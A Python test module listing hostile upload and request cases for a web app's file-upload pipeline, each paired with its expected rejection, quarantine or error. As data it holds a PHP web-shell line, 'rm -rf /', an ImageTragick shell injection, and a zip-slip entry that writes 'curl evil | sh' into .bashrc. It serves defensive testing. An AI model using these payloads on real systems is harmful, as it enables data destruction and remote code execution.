"""The hostile-input corpus: every attack the issue names, as data, each with its exact expected outcome.

A case is an input (an `Upload`: bytes made by a generator here, never a committed binary, pushed
through presign -> PUT -> complete -> scan; or a `Request` to the app) and what must come of it (a
`Scanned` verdict or an `Answer`). tests/test_hostile_corpus.py runs every case end to end;
`python -m tests.hostile_corpus` prints the corpus as a Markdown table.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from functools import partial
from typing import Any
from urllib.parse import urlencode

from PIL import Image, PngImagePlugin

from tests import hostile_pdfs as pdfs
from tests import hostile_zips as zips
from tests.conftest import PASSWORD, RESOURCES
from tests.hostile_pdfs import EVIL_URL, obfuscated, with_javascript, with_launch, with_password, written
from tests.hostile_zips import bomb, make_zip, many_entries, nested_eicar, symlink_zip
from webapp.scanning.clamd import EICAR

MiB = 1024 * 1024
SCRIPT = b"<script>alert(1)</script>"
HTML_TRAILER = b"<html>" + SCRIPT + b"</html>"
OWNER = "owner@example.com"  # the `user` fixture's account
OMIT = object()  # a JSON key left out of the body


# --- Inputs and outcomes ---


@dataclass(frozen=True)
class Upload:
    """Bytes pushed through the real flow: presign, PUT to storage, complete, one worker run."""

    make: Callable[[], bytes]
    content_type: str
    filename: str = "upload.bin"
    size: int | None = None  # the declared size; None declares the true length
    config: dict = field(default_factory=dict)  # app settings for this case only

    def describe(self):
        return f"uploaded as `{self.content_type}`"


@dataclass(frozen=True)
class Request:
    """One HTTP request, from the owner's signed-in session unless signed_in is False."""

    method: str
    path: str
    json: Any = OMIT
    body: bytes | str | None = None
    content_type: str | None = None
    form: dict | None = None
    headers: dict = field(default_factory=dict)
    signed_in: bool = True
    csrf: str = "own"  # "own" (this session's token), "none", "wrong", or "foreign" (another session's)
    https: bool = False
    with_upload: bool = False  # a pending upload exists first; "<id>" in path is its id

    def describe(self):
        return f"`{self.method} {self.path}`"


@dataclass(frozen=True)
class Scanned:
    """The worker's verdict on uploaded bytes, and what is served afterwards."""

    status: str
    reason: str | None = None
    detected_type: str | None = None  # available: downloaded as an attachment of this type
    preview: bool = False  # available: a PNG preview re-encoded from pixels
    payload: bytes | None = None  # in the upload, never in its preview
    signature: str | None = None  # quarantined: clamd's signature name starts so
    attachment: str | None = None  # available: the exact Content-Disposition of the download

    def describe(self):
        if self.status == "quarantined":
            return f"quarantined `{self.reason}` (`{self.signature}…`), nothing served"
        if self.status != "available":
            return f"{self.status} `{self.reason}`, nothing served, no object left"
        text = f"available, served only as an attachment of type `{self.detected_type}`"
        if self.attachment:
            text += f": `{self.attachment}`"
        if self.preview:
            text += "; preview is a PNG re-encoded from pixels" + (", without the payload" if self.payload else "")
        return text


@dataclass(frozen=True)
class Answer:
    """The app's answer to a request; a refusal (4xx) changes nothing."""

    status: int
    code: str | None = None  # the JSON error code (pages show a readable error instead)
    location: str | None = None  # the redirect target
    filename: str | None = None  # an accepted upload is recorded under this name
    cors_denied: bool = False  # no Access-Control-Allow-* header: the browser never sends the request

    def describe(self):
        if self.location:
            return f"`{self.status}` redirect to `{self.location}`"
        if self.filename:
            name = self.filename if len(self.filename) <= 40 else f"{self.filename[:4]}…{self.filename[-8:]}"
            return f"`{self.status}`, recorded as `{name}` ({len(self.filename.encode())} bytes)"
        if self.cors_denied:
            return f"`{self.status}` without `Access-Control-Allow-*` headers: the browser sends nothing"
        if self.code:
            return f"`{self.status} {self.code}`, nothing written"
        return f"`{self.status}` error page, nothing written"


@dataclass(frozen=True)
class Case:
    """One hostile input, and exactly what must come of it."""

    id: str
    category: str
    what: str
    input: Upload | Request
    expect: Scanned | Answer


def rejected(reason):
    return Scanned("rejected", reason)


def refused(status, code=None):
    return Answer(status, code)


# --- Generators: images ---


def resource(name):
    """A tiny sample file from tests/resources."""
    return (RESOURCES / name).read_bytes()


def png(size=(40, 30), mode="RGB", **save):
    buffer = io.BytesIO()
    Image.new(mode, size).save(buffer, format="PNG", **save)
    return buffer.getvalue()


def gif(size=(40, 30)):
    buffer = io.BytesIO()
    Image.new("P", size, 3).save(buffer, format="GIF")
    return buffer.getvalue()


def jpeg_with_comment():
    """An 800 x 400 JPEG whose COM segment holds a script."""
    buffer = io.BytesIO()
    Image.new("RGB", (800, 400), (10, 200, 30)).save(buffer, format="JPEG", comment=SCRIPT)
    return buffer.getvalue()


def png_with_text(text=SCRIPT):
    """A PNG with a tEXt chunk holding markup."""
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", text.decode())
    return png(pnginfo=info)


def trailed(name, trailer=HTML_TRAILER):
    """A sample file with bytes appended after its end marker."""
    return resource(name) + trailer


def truncated(name, keep):
    return resource(name)[:keep]


def _png_chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_claiming(width, height):
    """A 70-byte PNG whose header claims width x height pixels (a pixel flood)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + _png_chunk(b"IEND", b"")
    )


def gif_claiming(width, height):
    """A 30-byte GIF whose screen and image claim width x height pixels."""
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", width, height, 0, 0, 0)
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + b"\x02\x02\x44\x01\x00\x3b"
    )


def gifar():
    """A GIF with a Java archive appended: both a valid image and a valid JAR."""
    return gif() + make_zip([("Main.class", b"\xca\xfe\xba\xbe payload")], zipfile.ZIP_STORED)


def html_then_pdf():
    """An HTML page with a PDF after it: libmagic and PDF readers both find the PDF."""
    return b"<html><body>" + SCRIPT + b"</body></html>\n" + resource("tiny.pdf")


def constant(data):
    return data


# --- Requests ---


def presign(filename="notes.txt", size=11, content_type="text/plain", **request):
    """POST /api/uploads with a JSON body; OMIT leaves a key out."""
    body = {
        key: value
        for key, value in (("filename", filename), ("size", size), ("content_type", content_type))
        if value is not OMIT
    }
    return Request("POST", "/api/uploads", json=body, **request)


def raw_presign(body, content_type="application/json", **request):
    """POST /api/uploads with a body sent exactly as given."""
    return Request("POST", "/api/uploads", body=body, content_type=content_type, **request)


def login(next_url):
    """The login form posted with the owner's password and ?next=next_url."""
    return Request(
        "POST",
        "/auth/login?" + urlencode({"next": next_url}),
        form={"email": OWNER, "password": PASSWORD},
        signed_in=False,
    )


CROSS_SITE = {"Origin": "https://evil.example", "Sec-Fetch-Site": "cross-site", "Referer": "https://evil.example/"}


# --- The corpus ---


def _upload(case_id, category, what, make, content_type, expect, **upload):
    """An upload case; make is a generator, or the bytes themselves."""
    if isinstance(make, bytes):
        make = partial(constant, make)
    return Case(case_id, category, what, Upload(make, content_type, **upload), expect)


def _request(case_id, category, what, request, expect):
    return Case(case_id, category, what, request, expect)


def _name(case_id, what, filename):
    """A presign whose filename must be refused."""
    return _request(case_id, "filename", f"filename: {what}", presign(filename), refused(422, "invalid_filename"))


def _device(case_id, filename, attachment):
    """A text file whose name is a Windows device: available, and downloaded under a safe name."""
    return _upload(
        case_id,
        "filename",
        f"text file named `{filename}`",
        b"plain words\n",
        "text/plain",
        Scanned("available", detected_type="text/plain", attachment=attachment),
        filename=filename,
    )


def _pdf(case_id, what, make, expect, **upload):
    """A PDF upload case; expect is a reason code, or a Scanned outcome."""
    expect = rejected(expect) if isinstance(expect, str) else expect
    return _upload(case_id, "pdf", what, make, PDF, expect, filename="document.pdf", **upload)


def _zip(case_id, what, make, expect, **upload):
    """A ZIP upload case; expect is a reason code, or a Scanned outcome."""
    expect = rejected(expect) if isinstance(expect, str) else expect
    return _upload(case_id, "archive", what, make, ZIP, expect, filename="bundle.zip", **upload)


def _next(case_id, what, target, location="/files"):
    return _request(case_id, "redirect", what, login(target), Answer(302, location=location))


NOT_ALLOWED = rejected("type_not_allowed")
BIDI = {
    "202a": "left-to-right embedding",
    "202b": "right-to-left embedding",
    "202c": "pop directional formatting",
    "202d": "left-to-right override",
    "202e": "right-to-left override",
    "2066": "left-to-right isolate",
    "2067": "right-to-left isolate",
    "2068": "first strong isolate",
    "2069": "pop directional isolate",
}
PNG, JPEG, GIF, PDF, ZIP, TEXT = (
    "image/png",
    "image/jpeg",
    "image/gif",
    "application/pdf",
    "application/zip",
    "text/plain",
)

PDF_SERVED = Scanned("available", detected_type="application/pdf")
ZIP_SERVED = Scanned("available", detected_type="application/zip")
ACTIVE = "pdf_active_content"
GO_TO_PAGE = b"<< /S /GoTo /D [3 0 R /Fit] %s >>"
#: Each action that runs, sends or opens something, as an open action: (id, description, action).
ACTIONS = [
    ("launch-indirect", "`/Launch` with `/S 5 0 R` (an indirect name)", b"<< /S 5 0 R /F (calc.exe) >>"),
    ("submitform", "`/SubmitForm` to a web address", b"<< /S /SubmitForm /F << /FS /URL /F " + EVIL_URL + b" >> >>"),
    ("importdata", "`/ImportData` of a form data file", b"<< /S /ImportData /F (data.fdf) >>"),
    ("gotor", "`/GoToR` into another PDF", b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"),
    ("gotoe", "`/GoToE` into an embedded PDF", b"<< /S /GoToE /T << /R /C /N (inner) >> /D [0 /Fit] >>"),
    ("uri", "`/URI` opening a web page", pdfs.uri()),
    ("richmedia-execute", "`/RichMediaExecute`", b"<< /S /RichMediaExecute /TA 4 0 R /CMD << /C (play) >> >>"),
]
#: Archives hidden under names that do not say so: (kind, name).
DISGUISED = [
    ("gzip", "notes.txt"),
    ("bzip2", "data.csv"),
    ("xz", "readme"),
    ("tar", "backup.dat"),
    ("7z", "photo.jpg"),
    ("rar", "report.pdf"),
    ("zstd", "log.txt"),
    ("cab", "setup.ini"),
    ("zip", "document.docx"),
    ("empty-zip", "empty.txt"),
]

CASES = [
    # Markup, programs and other formats posing as allowed types: libmagic has the last word.
    _upload(
        "html-as-png",
        "disguise",
        "HTML page with a script",
        b"<!doctype html><html><body>" + SCRIPT + b"</body></html>",
        PNG,
        NOT_ALLOWED,
        filename="cat.png",
    ),
    _upload(
        "svg-script-as-png",
        "disguise",
        "SVG with a `<script>` element",
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
        PNG,
        NOT_ALLOWED,
        filename="cat.png",
    ),
    _upload(
        "svg-onload-as-png",
        "disguise",
        "SVG with an `onload` handler",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
        PNG,
        NOT_ALLOWED,
    ),
    _upload(
        "mvg-as-png",
        "disguise",
        "ImageMagick MVG with a shell-injecting `url()` (ImageTragick)",
        b"push graphic-context\nviewbox 0 0 640 480\n"
        b"fill 'url(https://example.com/x.jpg\"|ls \"-la)'\npop graphic-context\n",
        PNG,
        NOT_ALLOWED,
    ),
    _upload(
        "html-as-text",
        "disguise",
        "HTML page",
        b"<!DOCTYPE html><html><body onload=alert(1)></body></html>",
        TEXT,
        NOT_ALLOWED,
    ),
    _upload("xml-as-text", "disguise", "XML document", b"<?xml version='1.0'?><root><evil/></root>", TEXT, NOT_ALLOWED),
    _upload("script-as-text", "disguise", "shell script", b"#!/bin/sh\nrm -rf /\n", TEXT, NOT_ALLOWED),
    _upload("exe-as-pdf", "disguise", "Windows executable (`MZ` header)", b"MZ\x90\x00" + bytes(200), PDF, NOT_ALLOWED),
    _upload("png-as-pdf", "disguise", "real PNG", partial(resource, "tiny.png"), PDF, rejected("type_mismatch")),
    _upload(
        "php-in-gif-header",
        "disguise",
        "`GIF89a` followed by PHP code",
        b"GIF89a<?php system($_GET['c']); ?>",
        GIF,
        rejected("image_corrupt"),
    ),
    _request(
        "declared-html",
        "disguise",
        "presign declaring `Text/HTML; charset=utf-8`",
        presign("page.html", content_type="Text/HTML; charset=utf-8"),
        refused(415, "type_not_allowed"),
    ),
    _request(
        "declared-svg",
        "disguise",
        "presign declaring `image/svg+xml`",
        presign("logo.svg", content_type="image/svg+xml"),
        refused(415, "type_not_allowed"),
    ),
    # Polyglots: valid as the declared type, so they pass, but are only ever downloaded as attachments
    # and previewed as pixels re-encoded to PNG.
    _upload(
        "gifar",
        "polyglot",
        "GIF with a JAR appended (GIFAR)",
        gifar,
        GIF,
        Scanned("available", detected_type=GIF, preview=True, payload=b"PK\x03\x04"),
    ),
    _upload(
        "jpeg-script-comment",
        "polyglot",
        "JPEG with `<script>` in its comment segment",
        jpeg_with_comment,
        JPEG,
        Scanned("available", detected_type=JPEG, preview=True, payload=SCRIPT),
    ),
    _upload(
        "jpeg-trailing-html",
        "polyglot",
        "JPEG with an HTML page after its end marker",
        partial(trailed, "tiny.jpg"),
        JPEG,
        Scanned("available", detected_type=JPEG, preview=True, payload=SCRIPT),
    ),
    _upload(
        "png-trailing-html",
        "polyglot",
        "PNG with an HTML page after `IEND`",
        partial(trailed, "tiny.png"),
        PNG,
        Scanned("available", detected_type=PNG, preview=True, payload=SCRIPT),
    ),
    _upload(
        "png-text-chunk-script",
        "polyglot",
        "PNG with `<script>` in a `tEXt` chunk",
        png_with_text,
        PNG,
        Scanned("available", detected_type=PNG, preview=True, payload=SCRIPT),
    ),
    _upload(
        "html-pdf",
        "polyglot",
        "HTML page with a PDF after it",
        html_then_pdf,
        PDF,
        Scanned("available", detected_type=PDF),
    ),
    # PDFs that run something when opened, or cannot be inspected.
    _upload(
        "pdf-openaction-javascript",
        "pdf",
        "PDF whose `/OpenAction` runs JavaScript",
        partial(written, with_javascript),
        PDF,
        rejected("pdf_active_content"),
    ),
    _upload(
        "pdf-launch",
        "pdf",
        "PDF whose `/OpenAction` launches `calc.exe`",
        partial(written, with_launch),
        PDF,
        rejected("pdf_active_content"),
    ),
    _upload(
        "pdf-escaped-names",
        "pdf",
        "PDF OpenAction spelled `/J#61vaScript` (clamd's PDF heuristics see it first)",
        obfuscated,
        PDF,
        Scanned("quarantined", "malware", signature="Heuristics.PDF.ObfuscatedNameObject"),
    ),
    _upload(
        "pdf-encrypted",
        "pdf",
        "password-protected PDF (RC4)",
        partial(written, with_password),
        PDF,
        rejected("pdf_encrypted"),
    ),
    _upload(
        "pdf-garbage",
        "pdf",
        "`%PDF-1.4` header and garbage",
        b"%PDF-1.4\n garbage, not a pdf",
        PDF,
        rejected("pdf_corrupt"),
    ),
    # Parsers turned against the worker: actions pypdf hands back as indirect references, every way a
    # PDF runs or opens something, and shapes that cost time or memory to read.
    *[
        _pdf(
            f"pdf-openaction-{key}",
            f"PDF whose `/OpenAction` runs {what}",
            partial(pdfs.open_action, action, b"/Launch"),
            ACTIVE,
        )
        for key, what, action in ACTIONS
    ],
    _pdf(
        "pdf-launch-indirect-packed",
        "`/OpenAction` `/S 5 0 R` = `/Launch`, both in an object stream",
        partial(pdfs.open_action, b"<< /S 5 0 R /F (calc.exe) >>", b"/Launch", packed=(4, 5)),
        ACTIVE,
    ),
    _pdf(
        "pdf-uri-indirect-s",
        "`/OpenAction` whose `/S` is an indirect `/URI`",
        partial(pdfs.open_action, b"<< /S 5 0 R /URI " + EVIL_URL + b" >>", b"/URI"),
        ACTIVE,
    ),
    _pdf(
        "pdf-javascript-name-tree",
        "document-level JavaScript in the `/Names` tree",
        partial(
            pdfs.document,
            b"/Names << /JavaScript 4 0 R >>",
            b"",
            b"<< /Names [(x) << /S /JavaScript /JS 5 0 R >>] >>",
            pdfs.stream(b"app.alert(1)"),
        ),
        ACTIVE,
    ),
    _pdf(
        "pdf-js-in-object-stream",
        "JavaScript action packed in an object stream",
        partial(pdfs.open_action, b"<< /S /JavaScript /JS (app.alert(1)) >>", packed=(4,)),
        ACTIVE,
    ),
    _pdf(
        "pdf-launch-escaped",
        "`/S /Launc#68` (clamd's PDF heuristics see the escaped name first)",
        partial(pdfs.open_action, b"<< /S /Launc#68 /F (calc.exe) >>"),
        Scanned("quarantined", "malware", signature="Heuristics.PDF.ObfuscatedNameObject"),
    ),
    _pdf(
        "pdf-xfa",
        "XFA form in the `/AcroForm`",
        partial(
            pdfs.document,
            b"/AcroForm << /Fields [] /XFA 4 0 R >>",
            b"",
            pdfs.stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>"),
        ),
        ACTIVE,
    ),
    _pdf(
        "pdf-xfa-indirect-acroform",
        "XFA in an `/AcroForm` reached by reference",
        partial(
            pdfs.document, b"/AcroForm 4 0 R", b"", b"<< /Fields [] /XFA [(template) 5 0 R] >>", pdfs.stream(b"<t/>")
        ),
        ACTIVE,
    ),
    _pdf(
        "pdf-richmedia-annotation",
        "`/RichMedia` annotation with its content",
        partial(
            pdfs.document,
            b"",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 99 99] "
            b"/RichMediaContent << /Assets << /Names [(a.swf) 5 0 R] >> >> >>",
            b"<< /Type /Filespec /F (a.swf) >>",
        ),
        ACTIVE,
    ),
    _pdf(
        "pdf-richmedia-subtype-indirect",
        "annotation whose `/Subtype` is an indirect `/RichMedia`",
        partial(
            pdfs.document,
            b"",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype 5 0 R /Rect [0 0 99 99] >>",
            b"/RichMedia",
        ),
        ACTIVE,
    ),
    _pdf(
        "pdf-richmedia-settings",
        "`/RichMediaSettings` alone",
        partial(pdfs.document, b"/Extra << /RichMediaSettings << /Activation << /Condition /PO >> >> >>"),
        ACTIVE,
    ),
    _pdf(
        "pdf-page-open-uri",
        "page `/AA /O` (page opened) opens a web page",
        partial(pdfs.page_triggers, b"/O " + pdfs.uri()),
        ACTIVE,
    ),
    _pdf(
        "pdf-catalog-aa-uri",
        "document `/AA /WC` (closing) opens a web page via a reference",
        partial(pdfs.document, b"/AA << /WC 4 0 R >>", b"", pdfs.uri()),
        ACTIVE,
    ),
    _pdf(
        "pdf-aa-indirect",
        "page `/AA` dictionary itself a reference, `/PO` opens a web page",
        partial(pdfs.document, b"", b"/AA 4 0 R", b"<< /PO 5 0 R >>", pdfs.uri()),
        ACTIVE,
    ),
    _pdf(
        "pdf-link-aa-uri",
        "link annotation whose `/AA /E` (mouse enters) opens a web page",
        partial(pdfs.link, pdfs.uri(b"(https://example.com/)"), annotation=b"/AA << /E " + pdfs.uri() + b" >>"),
        ACTIVE,
    ),
    _pdf(
        "pdf-next-uri",
        "`/OpenAction` GoTo whose `/Next` opens a web page",
        partial(pdfs.open_action, GO_TO_PAGE % b"/Next 5 0 R", pdfs.uri()),
        ACTIVE,
    ),
    _pdf(
        "pdf-next-chain-array",
        "GoTo -> `/Next [GoTo, GoTo -> /Next URI]`, three levels deep",
        partial(
            pdfs.open_action,
            GO_TO_PAGE % b"/Next [5 0 R 6 0 R]",
            GO_TO_PAGE % b"",
            GO_TO_PAGE % b"/Next 7 0 R",
            pdfs.uri(),
        ),
        ACTIVE,
    ),
    _pdf(
        "pdf-link-next-javascript",
        "link whose `/Next` runs JavaScript",
        partial(pdfs.link, pdfs.uri(b"(https://example.com/)", extra=b"/Next << /S /JavaScript /JS (app.alert(1)) >>")),
        ACTIVE,
    ),
    _pdf(
        "pdf-shared-uri-action",
        "one `/URI` action used by a link and as the `/OpenAction`",
        partial(
            pdfs.document,
            b"/OpenAction 5 0 R",
            b"/Annots [4 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [10 10 90 30] /A 5 0 R >>",
            pdfs.uri(),
        ),
        ACTIVE,
    ),
    _pdf(
        "pdf-link-uri",
        "link annotation to a web page (clicked by the reader)",
        partial(pdfs.link, pdfs.uri(b"(https://example.com/)")),
        PDF_SERVED,
    ),
    _pdf(
        "pdf-link-uri-indirect-s",
        "link whose `/S` is an indirect `/URI`",
        partial(pdfs.link, b"5 0 R", b"<< /S 6 0 R /URI (https://example.com/) >>", b"/URI"),
        PDF_SERVED,
    ),
    _pdf(
        "pdf-link-uri-next-uri",
        "link to a web page, then `/Next` another",
        partial(pdfs.link, pdfs.uri(b"(https://example.com/)", extra=b"/Next " + pdfs.uri(b"(https://example.org/)"))),
        PDF_SERVED,
    ),
    _pdf(
        "pdf-openaction-goto",
        "`/OpenAction` going to the first page",
        partial(pdfs.open_action, GO_TO_PAGE % b""),
        PDF_SERVED,
    ),
    _pdf(
        "pdf-openaction-destination",
        "`/OpenAction` as a destination array",
        partial(pdfs.document, b"/OpenAction [3 0 R /FitH 200]"),
        PDF_SERVED,
    ),
    _pdf(
        "pdf-base-uri",
        "catalog `/URI << /Base >>` (not an action)",
        partial(pdfs.document, b"/URI << /Base (https://example.com/) >>"),
        PDF_SERVED,
    ),
    _pdf(
        "pdf-packed-plain",
        "plain document with its pages in an object stream",
        partial(pdfs.document, packed=(2, 3)),
        PDF_SERVED,
    ),
    # clamd, which reads first, inflates it within its MaxFileSize (1900 MiB for the default limits)
    # and finds nothing; the PDF check refuses it as pdf_too_complex. (A clamd with a MaxFileSize under
    # 1 GiB would say scan_limits_exceeded first.)
    _pdf(
        "pdf-flate-bomb-object-stream",
        "1 MiB object stream inflating to 1 GiB, holding the page",
        pdfs.flate_bomb_object_stream,
        "pdf_too_complex",
    ),
    _pdf(
        "pdf-object-stream-bombs",
        "100 object streams of 8 MiB each (800 MiB inflated in all)",
        pdfs.object_stream_bombs,
        "pdf_too_complex",
    ),
    _pdf(
        "pdf-flate-bomb-content",
        "1 MiB page content inflating to 1 GiB (never inflated by the check)",
        pdfs.flate_bomb_content,
        PDF_SERVED,
    ),
    _pdf(
        "pdf-many-objects",
        "26,000 tiny objects over a budget of 10,000",
        partial(pdfs.many_objects, 26_000),
        "pdf_too_complex",
        config={"PDF_MAX_OBJECTS": 10_000},
    ),
    _pdf(
        "pdf-many-packed-objects",
        "an object stream declaring 300,000 objects",
        partial(pdfs.many_packed_objects, 300_000),
        "pdf_too_complex",
    ),
    _pdf("pdf-nested-arrays", "arrays nested 500,000 deep", pdfs.nested, "pdf_corrupt"),
    _pdf(
        "pdf-reference-cycles",
        "a dictionary that holds itself and a ring of 2,000 references",
        partial(pdfs.reference_cycles, 2_000),
        PDF_SERVED,
    ),
    _pdf(
        "pdf-self-reference",
        "an object that is a reference to itself",
        partial(pdfs.document, b"/Extra 4 0 R", b"", b"4 0 R"),
        "pdf_corrupt",
    ),
    # Archives, judged from the end record and central directory, then each entry's first bytes.
    _zip(
        "zip-eocd-claims-fewer",
        "end record claiming 1 entry, directory holding 2",
        lambda: zips.claiming(make_zip([("a.txt", b"a"), ("b.txt", b"b")]), entries=1),
        "zip_corrupt",
    ),
    _zip(
        "zip-eocd-claims-more",
        "end record claiming 3 entries, directory holding 2",
        lambda: zips.claiming(make_zip([("a.txt", b"a"), ("b.txt", b"b")]), entries=3),
        "zip_corrupt",
    ),
    _zip(
        "zip-eocd-claims-65535",
        "end record claiming 65,535 entries (never parsed)",
        lambda: zips.claiming(make_zip([("a.txt", b"a")]), entries=65535),
        "zip_too_many_entries",
    ),
    _zip(
        "zip-eocd-directory-4gib",
        "end record claiming a 4 GiB central directory",
        lambda: zips.claiming(make_zip([("a.txt", b"a")]), directory_bytes=0xFFFFFFF0),
        "zip_directory_too_large",
    ),
    _zip(
        "zip-20000-claims-1",
        "20,000 entries behind an end record claiming 1",
        lambda: zips.claiming(many_entries(20_000), entries=1),
        "zip_corrupt",
    ),
    _zip(
        "zip-directory-4-mib",
        "70 entries whose directory comments fill 4.5 MB",
        zips.commented,
        "zip_directory_too_large",
    ),
    _zip(
        "zip64-plain",
        "ordinary entries behind ZIP64 end records",
        lambda: zips.as_zip64(make_zip([("a.txt", b"hello")])),
        ZIP_SERVED,
    ),
    _zip(
        "zip64-claims-millions",
        "ZIP64 record claiming 5,000,000 entries",
        lambda: zips.as_zip64(make_zip([("a.txt", b"a")]), entries=5_000_000),
        "zip_too_many_entries",
    ),
    _zip(
        "zip64-directory-1tib",
        "ZIP64 record claiming a 1 TiB central directory",
        lambda: zips.as_zip64(make_zip([("a.txt", b"a")]), directory_bytes=2**40),
        "zip_directory_too_large",
    ),
    *[
        _zip(
            f"zip-{kind}-as-{name.replace('.', '-')}",
            f"{kind} archive named `{name}`",
            partial(zips.hiding, kind, name),
            "zip_nested_archive",
        )
        for kind, name in DISGUISED
    ],
    _zip(
        "zip-gzip-stored",
        "gzip stored (not deflated) under `notes.txt`",
        partial(zips.hiding, "gzip", "notes.txt", zipfile.ZIP_STORED),
        "zip_nested_archive",
    ),
    _zip(
        "zip-text-named-archives",
        "text files named `notes.zip`, `old.tar.gz`, `x.7z`",
        partial(make_zip, [("notes.zip", zips.TEXT), ("old.tar.gz", zips.TEXT), ("x.7z", zips.TEXT)]),
        ZIP_SERVED,
    ),
    _zip(
        "zip-folders-and-text",
        "folders, text and a PNG",
        partial(make_zip, [("docs/", b""), ("docs/a.txt", zips.TEXT), ("img/p.png", png())]),
        ZIP_SERVED,
    ),
    _zip("zip-encrypted", "entry with the encryption flag (ZipCrypto)", zips.encrypted, "zip_encrypted"),
    _zip("zip-encrypted-aes", "entry encrypted with WinZip AES (method 99)", zips.aes_encrypted, "zip_encrypted"),
    _zip(
        "zip-bzip2-entry",
        "bzip2-compressed entry (inflated in one read by zipfile)",
        partial(make_zip, [("a.txt", zips.TEXT)], zipfile.ZIP_BZIP2),
        "zip_unsupported_compression",
    ),
    _zip(
        "zip-overlapping",
        "three directory entries sharing one local header",
        zips.overlapping,
        "zip_overlapping_entries",
    ),
    _zip("zip-10000-entries", "exactly 10,000 entries (the limit)", partial(many_entries, 10_000), ZIP_SERVED),
    _upload(
        "zip-bomb-1gib",
        "archive",
        "1 GiB + 1 MiB of zeros deflated to ~1 MB",
        partial(bomb, 1024 * MiB + MiB),
        ZIP,
        rejected("zip_too_large_uncompressed"),
    ),
    _upload(
        "zip-ratio-bomb",
        "archive",
        "200 MiB of zeros deflated ~1000:1",
        partial(bomb, 200 * MiB),
        ZIP,
        rejected("zip_compression_ratio"),
    ),
    _upload(
        "zip-20000-entries",
        "archive",
        "ZIP with 20,000 empty entries",
        partial(many_entries, 20_000),
        ZIP,
        rejected("zip_too_many_entries"),
    ),
    _upload(
        "zip-slip-dotdot",
        "archive",
        "entry `../../home/user/.bashrc` (zip slip)",
        partial(make_zip, [("../../home/user/.bashrc", b"curl evil | sh")]),
        ZIP,
        rejected("zip_path_traversal"),
    ),
    _upload(
        "zip-symlink", "archive", "symlink entry pointing at `/etc/passwd`", symlink_zip, ZIP, rejected("zip_symlink")
    ),
    _upload(
        "zip-nested",
        "archive",
        "ZIP inside a ZIP",
        partial(make_zip, [("inner.zip", make_zip([("a", b"a")]))]),
        ZIP,
        rejected("zip_nested_archive"),
    ),
    _upload(
        "zip-truncated",
        "archive",
        "ZIP missing its last 30 bytes",
        lambda: make_zip([("a.txt", b"hello")])[:-30],
        ZIP,
        rejected("zip_corrupt"),
    ),
    # Malware: clamd with the EICAR test signature.
    _upload(
        "eicar",
        "malware",
        "EICAR test string",
        EICAR,
        TEXT,
        Scanned("quarantined", "malware", signature="Eicar-Test-Signature"),
        filename="eicar.txt",
    ),
    _upload(
        "eicar-zipped",
        "malware",
        "EICAR inside a ZIP",
        partial(make_zip, [("eicar.com", EICAR)]),
        ZIP,
        Scanned("quarantined", "malware", signature="Eicar-Test-Signature"),
        filename="eicar.zip",
    ),
    _upload(
        "eicar-nested-zip", "malware", "EICAR in a ZIP inside a ZIP", nested_eicar, ZIP, rejected("zip_nested_archive")
    ),
    # Images that cannot be decoded safely.
    _upload(
        "pixel-flood-png",
        "image",
        "70-byte PNG claiming 65535 x 65535 pixels",
        partial(png_claiming, 65535, 65535),
        PNG,
        rejected("image_too_many_pixels"),
    ),
    _upload(
        "pixel-flood-gif",
        "image",
        "30-byte GIF claiming 65535 x 65535 pixels",
        partial(gif_claiming, 65535, 65535),
        GIF,
        rejected("image_too_many_pixels"),
    ),
    _upload(
        "truncated-png",
        "image",
        "PNG cut after 90 of 140 bytes",
        partial(truncated, "tiny.png", 90),
        PNG,
        rejected("image_corrupt"),
    ),
    _upload(
        "truncated-jpeg",
        "image",
        "JPEG cut in half",
        partial(truncated, "tiny.jpg", 361),
        JPEG,
        rejected("image_corrupt"),
    ),
    # Sizes: checked when the URL is issued, and again on the stored object.
    _request(
        "size-over-limit", "size", "declared size 10^12 bytes", presign(size=10**12), refused(413, "file_too_large")
    ),
    _upload(
        "object-over-limit",
        "size",
        "2,048 bytes sent where 1,000 were declared, over a 1 KiB limit",
        b"x" * 2048,
        TEXT,
        rejected("too_large"),
        size=1000,
        config={"MAX_UPLOAD_BYTES": 1024},
    ),
    _upload(
        "more-bytes-than-declared",
        "size",
        "30 bytes sent, 10 declared",
        b"0123456789" * 3,
        TEXT,
        rejected("size_mismatch"),
        size=10,
    ),
    _request("size-negative", "size", "size -5", presign(size=-5), refused(422, "invalid_size")),
    _request("size-string", "size", 'size `"12"`', presign(size="12"), refused(422, "invalid_size")),
    _request(
        "size-boolean", "size", "size `true` (an int in Python)", presign(size=True), refused(422, "invalid_size")
    ),
    _request("size-missing", "size", "no size", presign(size=OMIT), refused(422, "invalid_size")),
    # Malformed JSON bodies.
    _request("json-syntax", "json", "`{not json`", raw_presign("{not json"), refused(400, "invalid_json")),
    _request(
        "json-form-encoded",
        "json",
        "form-encoded body",
        raw_presign("filename=a.txt&size=5", "application/x-www-form-urlencoded"),
        refused(415, "invalid_json"),
    ),
    _request("json-array", "json", "a JSON array", raw_presign('["a.txt", 10]'), refused(400, "invalid_json")),
    _request(
        "json-deep-nesting", "json", "100,000 nested arrays", raw_presign("[" * 100_000), refused(400, "invalid_json")
    ),
    _request("json-over-1mib", "json", "2 MiB body", raw_presign("x" * (2 * MiB)), refused(413, "too_large")),
    # CSRF: every state-changing request needs this session's token.
    _request("csrf-missing", "csrf", "presign without a token", presign(csrf="none"), refused(400, "csrf_failed")),
